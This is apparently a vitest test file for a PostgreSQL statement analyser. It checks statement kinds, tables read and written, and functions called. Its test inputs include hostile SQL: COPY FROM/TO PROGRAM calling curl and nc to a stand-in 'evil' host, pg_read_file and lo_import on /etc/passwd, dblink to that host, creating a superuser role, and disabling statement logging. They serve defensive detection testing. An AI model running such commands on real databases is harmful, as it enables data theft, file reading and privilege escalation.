import { beforeAll, describe, expect, it } from 'vitest';
import { SqlAnalyzer, STATEMENT_KINDS, type StatementAnalysis } from './index.js';

let analyzer: SqlAnalyzer;
beforeAll(async () => {
  analyzer = await SqlAnalyzer.create({ cacheSize: 0 });
});

/**
 * One statement and what the analyser must see in it. `read`, `written` and `functions` are
 * written "schema.name" or "name"; omitted means "none". Kinds are exact and in order.
 */
type Case = [sql: string, kinds: string[], facts?: { read?: string[]; written?: string[]; functions?: string[]; unbounded?: boolean; columns?: string[] }];

const CASES: Case[] = [
  // Reads
  ['select 1', ['select']],
  ['SELECT * FROM orders', ['select'], { read: ['orders'], columns: ['*'] }],
  ['select o.id from sales.orders o join crm.customers c on c.id = o.customer_id', ['select'], { read: ['sales.orders', 'crm.customers'], columns: ['o.id', 'c.id', 'o.customer_id'] }],
  ['select * from a, b, c', ['select'], { read: ['a', 'b', 'c'], columns: ['*'] }],
  ['select * from a left join b using (id) full join c on true', ['select'], { read: ['a', 'b', 'c'], columns: ['*'] }],
  ['select * from (select id from orders) s', ['select'], { read: ['orders'], columns: ['*', 'id'] }],
  ['select * from orders where id in (select order_id from refunds)', ['select'], { read: ['orders', 'refunds'], columns: ['*', 'id', 'order_id'] }],
  ['select exists (select 1 from orders)', ['select'], { read: ['orders'] }],
  ['select (select max(id) from items) as m', ['select'], { read: ['items'], functions: ['max'], columns: ['id'] }],
  ['select * from orders, lateral (select * from items where items.order_id = orders.id) i', ['select'], { read: ['orders', 'items'], columns: ['*', 'items.order_id', 'orders.id'] }],
  ['select id from a union select id from b', ['select'], { read: ['a', 'b'], columns: ['id'] }],
  ['select id from a intersect select id from b except select id from c', ['select'], { read: ['a', 'b', 'c'], columns: ['id'] }],
  ['values (1), (2)', ['values']],
  ['select * from (values (1)) v(x)', ['select', 'values'], { columns: ['*'] }],
  ['select * from only parent', ['select'], { read: ['parent'], columns: ['*'] }],
  ['select * from "Orders"', ['select'], { read: ['Orders'], columns: ['*'] }],
  ['select * from "Sales"."Orders"', ['select'], { read: ['Sales.Orders'], columns: ['*'] }],
  ['select * from U&"d\\0061ta"', ['select'], { read: ['data'], columns: ['*'] }],
  ['select * from ORDERS', ['select'], { read: ['orders'], columns: ['*'] }],
  ['select * from orders for update', ['select'], { read: ['orders'], columns: ['*'] }],
  ['table orders', ['select'], { read: ['orders'], columns: ['*'] }],
  // CTEs and scopes
  ['with r as (select * from orders) select * from r', ['select'], { read: ['orders'], columns: ['*'] }],
  ['with a as (select 1), b as (select * from a) select * from b', ['select'], { columns: ['*'] }],
  ['with recursive t(n) as (values (1) union all select n + 1 from t where n < 10) select sum(n) from t', ['select', 'values'], { functions: ['sum'], columns: ['n'] }],
  ['select * from (with t as (select 1) select * from t) s, t', ['select'], { read: ['t'], columns: ['*'] }],
  ['with orders as (select 1) select * from public.orders', ['select'], { read: ['public.orders'], columns: ['*'] }],
  ['with x as (select * from x) select * from x', ['select'], { read: ['x'], columns: ['*'] }],
  // Data-modifying CTEs
  ['with d as (delete from orders returning *) select * from d', ['select', 'delete'], { written: ['orders'], unbounded: true, columns: ['*'] }],
  ['with d as (delete from orders where id = 1 returning *) select * from d', ['select', 'delete'], { written: ['orders'], columns: ['*', 'id'] }],
  ['with u as (update orders set total = 0 returning id) select count(*) from u', ['select', 'update'], { written: ['orders'], unbounded: true, functions: ['count'], columns: ['id'] }],
  ['with i as (insert into log values (1) returning *) select * from i', ['select', 'insert'], { written: ['log'], columns: ['*'] }],
  ['with a as (with b as (delete from t returning 1) select * from b) select * from a', ['select', 'delete'], { written: ['t'], unbounded: true, columns: ['*'] }],
  ['with d as (delete from orders where id = 1 returning *) insert into archive.orders select * from d', ['insert', 'delete', 'select'], { written: ['archive.orders', 'orders'], columns: ['*', 'id'] }],
  // Writes
  ['insert into orders (id) values (1)', ['insert'], { written: ['orders'] }],
  ['insert into orders select * from staging.orders', ['insert', 'select'], { read: ['staging.orders'], written: ['orders'], columns: ['*'] }],
  ['insert into orders values (1) on conflict do nothing', ['insert'], { written: ['orders'] }],
  ['insert into orders (id) values (1) on conflict (id) do update set total = excluded.total', ['insert', 'update'], { written: ['orders'], columns: ['excluded.total'] }],
  ['insert into t default values', ['insert'], { written: ['t'] }],
  ['update orders set total = 0 where id = 1', ['update'], { written: ['orders'], columns: ['id'] }],
  ['update orders set total = 0', ['update'], { written: ['orders'], unbounded: true }],
  ['update orders o set total = s.total from staging.orders s where s.id = o.id', ['update'], { read: ['staging.orders'], written: ['orders'], columns: ['s.total', 's.id', 'o.id'] }],
  ['update orders set total = (select sum(x) from items) where true', ['update', 'select'], { read: ['items'], written: ['orders'], functions: ['sum'], columns: ['x'] }],
  ['delete from orders where id = 1', ['delete'], { written: ['orders'], columns: ['id'] }],
  ['delete from orders', ['delete'], { written: ['orders'], unbounded: true }],
  ['DELETE FROM public.orders -- where id = 1', ['delete'], { written: ['public.orders'], unbounded: true }],
  ['delete from orders /* where id = 1 */', ['delete'], { written: ['orders'], unbounded: true }],
  ['delete from orders o using refunds r where r.order_id = o.id', ['delete'], { read: ['refunds'], written: ['orders'], columns: ['r.order_id', 'o.id'] }],
  ['delete from orders where current of c', ['delete'], { written: ['orders'] }],
  ['merge into orders o using incoming i on o.id = i.id when matched then update set total = i.total when not matched then insert (id) values (i.id)', ['merge', 'update', 'insert'], { read: ['incoming'], written: ['orders'], columns: ['o.id', 'i.id', 'i.total'] }],
  ['merge into orders o using incoming i on o.id = i.id when matched then delete', ['merge', 'delete'], { read: ['incoming'], written: ['orders'], columns: ['o.id', 'i.id'] }],
  ['truncate orders', ['truncate'], { written: ['orders'] }],
  ['truncate table orders, sales.items restart identity cascade', ['truncate'], { written: ['orders', 'sales.items'] }],
  // SELECT INTO / CREATE TABLE AS
  ['select * into orders_copy from orders', ['select', 'create_table_as'], { read: ['orders'], written: ['orders_copy'], columns: ['*'] }],
  ['create table orders_copy as select * from orders', ['create_table_as', 'select'], { read: ['orders'], written: ['orders_copy'], columns: ['*'] }],
  ['create materialized view mv as select * from orders', ['create_materialized_view', 'select'], { read: ['orders'], written: ['mv'], columns: ['*'] }],
  ['create view v as select id from orders', ['create_view', 'select'], { read: ['orders'], written: ['v'], columns: ['id'] }],
  // EXPLAIN
  ['explain select * from orders', ['explain'], { read: ['orders'], columns: ['*'] }],
  ['explain delete from orders', ['explain'], { read: ['orders'] }],
  ['explain analyze delete from orders', ['delete', 'explain'], { written: ['orders'], unbounded: true }],
  ['EXPLAIN ANALYSE DELETE FROM orders', ['delete', 'explain'], { written: ['orders'], unbounded: true }],
  ['explain (analyze true) update orders set total = 0', ['update', 'explain'], { written: ['orders'], unbounded: true }],
  ['explain (analyze on, buffers) insert into orders values (1)', ['insert', 'explain'], { written: ['orders'] }],
  ['explain (analyze false) delete from orders', ['explain'], { read: ['orders'] }],
  ['explain (analyze off) delete from orders', ['explain'], { read: ['orders'] }],
  ['explain (analyze 0) delete from orders', ['explain'], { read: ['orders'] }],
  ['explain (costs off, analyze) select * from orders', ['select', 'explain'], { read: ['orders'], columns: ['*'] }],
  ['explain analyze select pg_read_file(\'/etc/passwd\')', ['select', 'explain'], { functions: ['pg_read_file'] }],
  // PREPARE / EXECUTE
  ['prepare p as delete from orders', ['prepare', 'delete'], { written: ['orders'], unbounded: true }],
  ['prepare q (int) as update orders set total = 0 where id = $1', ['prepare', 'update'], { written: ['orders'], columns: ['id'] }],
  ['prepare r as select * from orders where id = $1', ['prepare', 'select'], { read: ['orders'], columns: ['*', 'id'] }],
  ['execute p', ['execute']],
  ['execute q(1)', ['execute']],
  ['deallocate p', ['deallocate']],
  ['deallocate all', ['deallocate']],
  // COPY
  ['copy orders to stdout', ['copy_to'], { read: ['orders'] }],
  ['copy orders from stdin', ['copy_from'], { written: ['orders'] }],
  ['copy (select * from orders) to stdout with (format csv)', ['copy_to', 'select'], { read: ['orders'], columns: ['*'] }],
  ['copy orders to program \'gzip > /tmp/o.gz\'', ['copy_to_program', 'copy_to'], { read: ['orders'] }],
  ['COPY orders FROM PROGRAM \'curl https://evil\'', ['copy_from_program', 'copy_from'], { written: ['orders'] }],
  ['copy (select * from orders) to program \'nc evil 9\'', ['copy_to_program', 'copy_to', 'select'], { read: ['orders'], columns: ['*'] }],
  ['copy orders to \'/tmp/orders.csv\'', ['copy_to_file', 'copy_to'], { read: ['orders'] }],
  ['copy orders from \'/tmp/orders.csv\'', ['copy_from_file', 'copy_from'], { written: ['orders'] }],
  ['copy orders (id, total) from stdin where id > 0', ['copy_from'], { written: ['orders'], columns: ['id'] }],
  // Functions, wherever they hide
  ['select pg_read_file(\'/etc/passwd\')', ['select'], { functions: ['pg_read_file'] }],
  ['SELECT PG_READ_FILE(\'/etc/passwd\')', ['select'], { functions: ['pg_read_file'] }],
  ['select pg_catalog.pg_read_file(\'x\')', ['select'], { functions: ['pg_catalog.pg_read_file'] }],
  ['select "pg_read_file"(\'x\')', ['select'], { functions: ['pg_read_file'] }],
  ['select "PG_READ_FILE"(\'x\')', ['select'], { functions: ['PG_READ_FILE'] }],
  ['select * from pg_ls_dir(\'.\')', ['select'], { functions: ['pg_ls_dir'], columns: ['*'] }],
  ['select * from orders o, lateral pg_ls_dir(\'/\') d', ['select'], { read: ['orders'], functions: ['pg_ls_dir'], columns: ['*'] }],
  ['select * from dblink(\'host=evil\', \'select 1\') as t(x int)', ['select'], { functions: ['dblink'], columns: ['*'] }],
  ['select dblink_exec(\'host=evil\', \'drop table t\')', ['select'], { functions: ['dblink_exec'] }],
  ['select lo_import(\'/etc/passwd\')', ['select'], { functions: ['lo_import'] }],
  ['select pg_terminate_backend(pid) from pg_stat_activity', ['select'], { read: ['pg_stat_activity'], functions: ['pg_terminate_backend'], columns: ['pid'] }],
  ['with f as (select pg_read_file(\'/x\') as x) select * from f', ['select'], { functions: ['pg_read_file'], columns: ['*'] }],
  ['select coalesce(null, pg_read_file(\'/x\'))', ['select'], { functions: ['pg_read_file'] }],
  ['select * from orders where note = (select pg_read_file(\'/x\'))', ['select'], { read: ['orders'], functions: ['pg_read_file'], columns: ['*', 'note'] }],
  ['select count(*) filter (where f(x)) over (partition by g(y)) from t', ['select'], { read: ['t'], functions: ['count', 'f', 'g'], columns: ['x', 'y'] }],
  ['create table t (note text default pg_read_file(\'/x\'), check (length(note) > 0))', ['create_table'], { written: ['t'], functions: ['pg_read_file', 'length'], columns: ['note'] }],
  ['create index on orders (lower(note))', ['create_index'], { written: ['orders'], functions: ['lower'], columns: ['note'] }],
  ['call refresh_everything(1)', ['call'], { functions: ['refresh_everything'] }],
  ['call ops.refresh()', ['call'], { functions: ['ops.refresh'] }],
  ['select now(), current_user, version()', ['select'], { functions: ['now', 'version'] }],
  ['select 1 + 2, \'a\' || \'b\', x::int from t', ['select'], { read: ['t'], columns: ['x'] }],
  // Destructive words in literals and comments are not statements
  ['select \'DROP TABLE users\'', ['select']],
  ['select $$ DROP TABLE users $$', ['select']],
  ['select $x$ truncate orders; $x$', ['select']],
  ['select E\'it\\\'s; drop table users\'', ['select']],
  ['select 1 -- ; drop table users', ['select']],
  ['select 1 /* ; drop table users */', ['select']],
  ['select 1 /* nested /* drop table users */ still a comment */', ['select']],
  ['select "drop table users" from t', ['select'], { read: ['t'], columns: ['drop table users'] }],
  ['select \'pg_read_file(1)\'', ['select']],
  ['SeLeCt\t*\n  FrOm\n\torders', ['select'], { read: ['orders'], columns: ['*'] }],
  // DDL by object type
  ['create table t (id int primary key)', ['create_table'], { written: ['t'] }],
  ['create table t (like other)', ['create_table'], { written: ['t'], read: ['other'] }],
  ['alter table orders add column x int', ['alter_table'], { written: ['orders'] }],
  ['alter table orders rename to old_orders', ['alter_table'], { written: ['orders'] }],
  ['alter index orders_pkey rename to p', ['alter_index'], { written: ['orders_pkey'] }],
  ['alter view v rename to w', ['alter_view'], { written: ['v'] }],
  ['drop table orders', ['drop_table'], { written: ['orders'] }],
  ['DROP TABLE IF EXISTS public.orders, items CASCADE', ['drop_table'], { written: ['public.orders', 'items'] }],
  ['/* maintenance */ DrOp /* really */ TaBlE "orders"', ['drop_table'], { written: ['orders'] }],
  ['drop view v', ['drop_view'], { written: ['v'] }],
  ['drop materialized view mv', ['drop_materialized_view'], { written: ['mv'] }],
  ['drop index i', ['drop_index']],
  ['drop schema sales cascade', ['drop_schema']],
  ['drop database app', ['drop_database']],
  ['drop role bob', ['drop_role']],
  ['drop user bob', ['drop_role']],
  ['drop function f(int)', ['drop_function']],
  ['drop procedure p()', ['drop_procedure']],
  ['drop extension dblink', ['drop_extension']],
  ['drop sequence s', ['drop_sequence'], { written: ['s'] }],
  ['drop type t', ['drop_type']],
  ['drop trigger tr on orders', ['drop_trigger']],
  ['drop policy p on orders', ['drop_policy']],
  ['drop owned by bob', ['drop_owned']],
  ['reassign owned by bob to alice', ['reassign_owned']],
  ['create schema s', ['create_schema']],
  ['create database d', ['create_database']],
  ['create role evil login superuser', ['create_role']],
  ['create user evil', ['create_role']],
  ['create function f() returns int language sql as $$ delete from orders; select 1 $$', ['create_function']],
  ['create procedure p() language sql as $$ truncate orders $$', ['create_procedure']],
  ['create trigger tr after insert on orders for each row execute function f()', ['create_trigger']],
  ['create extension if not exists pg_trgm', ['create_extension']],
  ['create sequence s', ['create_sequence']],
  ['create type mood as enum (\'sad\', \'ok\')', ['create_type']],
  ['create policy p on orders using (true)', ['create_policy']],
  ['alter role reporting with superuser', ['alter_role']],
  ['alter role reporting set search_path = x', ['alter_role']],
  ['alter system set log_statement = \'none\'', ['alter_system']],
  ['alter database app set x = 1', ['alter_database']],
  ['alter function f() security definer', ['alter_function']],
  ['alter default privileges grant select on tables to public', ['alter_default_privileges']],
  ['comment on table orders is \'x\'', ['comment']],
  // Rights and roles
  ['grant select on orders to public', ['grant']],
  ['grant all on all tables in schema public to bob', ['grant']],
  ['revoke insert on orders from bob', ['revoke']],
  ['grant dba to etl_job', ['grant_role']],
  ['revoke dba from etl_job', ['revoke_role']],
  ['set role postgres', ['set_role']],
  ['SET ROLE NONE', ['set_role']],
  ['reset role', ['set_role']],
  ['set session authorization postgres', ['set_session_authorization']],
  ['reset session authorization', ['set_session_authorization']],
  // Code
  ['do $$ begin execute \'drop table orders\'; end $$', ['do']],
  ['DO LANGUAGE plpgsql $b$ BEGIN PERFORM 1; END $b$', ['do']],
  ['load \'auto_explain\'', ['load']],
  // Session
  ['set statement_timeout = \'5s\'', ['set']],
  ['set local search_path = s', ['set']],
  ['set transaction isolation level serializable', ['set']],
  ['reset statement_timeout', ['reset']],
  ['reset all', ['reset']],
  ['show search_path', ['show']],
  ['show all', ['show']],
  ['discard all', ['discard']],
  ['listen ch', ['listen']],
  ['notify ch, \'x\'', ['notify']],
  ['unlisten *', ['unlisten']],
  ['declare c cursor for select * from orders', ['declare_cursor', 'select'], { read: ['orders'], columns: ['*'] }],
  ['fetch 10 from c', ['fetch']],
  ['move forward 5 in c', ['move']],
  ['close c', ['close_cursor']],
  // Transactions
  ['begin', ['begin']],
  ['start transaction read only', ['begin']],
  ['commit', ['commit']],
  ['end', ['commit']],
  ['rollback', ['rollback']],
  ['abort', ['rollback']],
  ['savepoint s', ['savepoint']],
  ['release savepoint s', ['release_savepoint']],
  ['rollback to savepoint s', ['rollback_to_savepoint']],
  ['prepare transaction \'tx1\'', ['prepare_transaction']],
  ['commit prepared \'tx1\'', ['commit_prepared']],
  ['rollback prepared \'tx1\'', ['rollback_prepared']],
  ['lock table orders in exclusive mode', ['lock'], { read: ['orders'] }],
  // Maintenance
  ['vacuum orders', ['vacuum'], { read: ['orders'] }],
  ['vacuum full analyze orders', ['vacuum'], { read: ['orders'] }],
  ['analyze orders', ['analyze'], { read: ['orders'] }],
  ['reindex table orders', ['reindex']],
  ['cluster orders using orders_pkey', ['cluster']],
  ['refresh materialized view mv', ['refresh_materialized_view'], { written: ['mv'] }],
  ['checkpoint', ['checkpoint']],
];

const name = (r: { schema?: string; name: string }) => (r.schema ? `${r.schema}.${r.name}` : r.name);

function one(sql: string): StatementAnalysis {
  const analysis = analyzer.analyze(sql);
  if (!analysis.ok) throw new Error(`${analysis.code}: ${analysis.message}`);
  expect(analysis.statements).toHaveLength(1);
  return analysis.statements[0]!;
}

describe('what each statement does', () => {
  it('has at least 200 cases, each kind from the one list', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(200);
    for (const [, kinds] of CASES) for (const kind of kinds) expect(STATEMENT_KINDS).toContain(kind);
  });

  it.each(CASES)('%s', (sql, kinds, facts = {}) => {
    const s = one(sql);
    expect(s.kinds).toEqual(kinds);
    expect(s.tablesRead.map(name).sort()).toEqual([...(facts.read ?? [])].sort());
    expect(s.tablesWritten.map(name).sort()).toEqual([...(facts.written ?? [])].sort());
    expect(s.functions.map(name).sort()).toEqual([...(facts.functions ?? [])].sort());
    expect(s.unboundedWrite).toBe(facts.unbounded ?? false);
    if (facts.columns) expect(s.columnsRead.map((c) => (c.table ? `${c.table}.${c.column}` : c.column)).sort()).toEqual([...facts.columns].sort());
  });
});

describe('batches', () => {
  it('splits a batch into its statements, each with its own text', () => {
    const analysis = analyzer.analyze('select 1; DROP TABLE t ;\n  delete from u where id = 1');
    expect(analysis.ok && analysis.statements.map((s) => [s.text, s.kinds])).toEqual([
      ['select 1', ['select']],
      ['DROP TABLE t', ['drop_table']],
      ['delete from u where id = 1', ['delete']],
    ]);
  });

  it('keeps a semicolon inside a string inside its statement', () => {
    const analysis = analyzer.analyze("select 'a;b'; select 2");
    expect(analysis.ok && analysis.statements.map((s) => s.text)).toEqual(["select 'a;b'", 'select 2']);
  });

  it('slices texts by bytes, so non-ASCII text before a statement does not shift it', () => {
    const analysis = analyzer.analyze("select 'données'; drop table t");
    expect(analysis.ok && analysis.statements.map((s) => s.text)).toEqual(["select 'données'", 'drop table t']);
  });

  it('gives PostgreSQL’s fingerprint, equal for statements differing only in constants', () => {
    const a = analyzer.analyze('select * from t where id = 1');
    const b = analyzer.analyze('select * from t where id = 2');
    expect(a.ok && b.ok && a.fingerprint === b.fingerprint && /^[0-9a-f]{16}$/.test(a.fingerprint)).toBe(true);
  });
});

describe('failures', () => {
  it('refuses syntax errors with the parser’s message and position', () => {
    expect(analyzer.analyze('selec * from t')).toEqual({ ok: false, code: 'SQL_SYNTAX', message: 'syntax error at or near "selec"', position: 1 });
    expect(analyzer.analyze('select 1; drop table')).toMatchObject({ ok: false, code: 'SQL_SYNTAX', message: 'syntax error at end of input' });
    expect(analyzer.analyze("select 'unterminated")).toMatchObject({ ok: false, code: 'SQL_SYNTAX', message: expect.stringMatching(/unterminated quoted string/) });
  });

  it('refuses empty input and input of only comments', () => {
    for (const sql of ['', '   ', ';', ' ; ; ', '-- nothing', '/* nothing */']) expect(analyzer.analyze(sql)).toMatchObject({ ok: false, code: 'SQL_EMPTY' });
  });

  it('refuses input above the size limit without parsing it', async () => {
    const small = await SqlAnalyzer.create({ maxStatementBytes: 100 });
    expect(small.analyze(`select '${'x'.repeat(200)}'`)).toMatchObject({ ok: false, code: 'SQL_TOO_LARGE' });
    expect(analyzer.analyze(`select '${'x'.repeat(100_000)}'`)).toMatchObject({ ok: true });
  });
});

describe('cache', () => {
  it('returns the same analysis for the same text, bounded in size', async () => {
    const cached = await SqlAnalyzer.create({ cacheSize: 2 });
    const first = cached.analyze('select 1');
    expect(cached.analyze('select 1')).toBe(first);
    cached.analyze('select 2');
    cached.analyze('select 3');
    expect(cached.analyze('select 1')).not.toBe(first);
  });

  it('keeps recently used entries', async () => {
    const cached = await SqlAnalyzer.create({ cacheSize: 2 });
    const first = cached.analyze('select 1');
    cached.analyze('select 2');
    cached.analyze('select 1');
    cached.analyze('select 3');
    expect(cached.analyze('select 1')).toBe(first);
  });

  it('does not cache when the size is 0', async () => {
    expect(analyzer.analyze('select 1')).not.toBe(analyzer.analyze('select 1'));
  });
});
